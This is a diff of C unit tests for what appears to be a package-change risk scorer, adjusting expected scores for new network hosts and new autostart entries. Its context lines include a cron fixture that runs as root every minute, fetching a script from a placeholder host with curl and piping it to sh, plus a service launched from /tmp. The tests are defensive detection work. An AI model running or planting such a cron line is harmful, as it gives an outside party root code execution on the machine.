@@ -208,7 +208,7 @@ Test(compare_text, hosts_by_who_can_put_something_there)
         const char *url, *want;
     } cases[] = {
         {"https://raw.githubusercontent.com/a/b/main/x", "diff.new-contact 35 a.js\n"},
-        {"http://203.0.113.77/x", "diff.new-contact 30 a.js\n"},
+        {"http://203.0.113.77/x", "diff.new-contact 40 a.js\n"},
         {"https://update.some-name.xyz/x", "diff.new-contact 25 a.js\n"},
         {"https://plain.org/x", "diff.new-contact 8 a.js\n"},
         {"https://other.known.test/x", "diff.new-contact 3 a.js\n"},
@@ -281,7 +281,7 @@ Test(compare_service, what_newly_starts)
     struct packed option = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -b\n", 0, 0};
     struct packed other = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/tmp/y\n", 0, 0};
     struct packed job = {"etc/cron.d/x", "* * * * * root curl -s http://a.test | sh\n", 0, 0};
-    EXPECT_TOLD(PAIR(none), PAIR(none, unit), "diff.autostart", "diff.autostart 18 x.service\n");
+    EXPECT_TOLD(PAIR(none), PAIR(none, unit), "diff.autostart", "diff.autostart 28 x.service\n");
     EXPECT_TOLD(PAIR(none, moved), PAIR(none, unit), "diff.autostart", "");
     EXPECT_TOLD(PAIR(none, unit), PAIR(none, option), "diff.autostart", "diff.autostart 8 x.service\n");
     EXPECT_TOLD(PAIR(none, unit), PAIR(none, other), "diff.autostart", "diff.autostart 45 x.service\n");
